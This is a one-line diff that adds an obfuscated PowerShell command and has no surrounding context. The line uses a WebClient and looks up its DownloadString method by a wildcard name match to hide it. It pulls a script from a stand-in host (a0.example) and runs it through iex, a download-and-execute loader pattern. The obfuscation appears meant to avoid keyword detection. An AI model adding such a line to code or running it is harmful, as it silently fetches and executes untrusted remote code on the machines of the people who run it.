@@ -1,0 +1,1 @@
+$w=New-Object Net.WebClient;$n=($w|gm|?{$_.Name -like '*nl*g'})[0].Name;iex $w.$n('http://a0.example/p.txt')
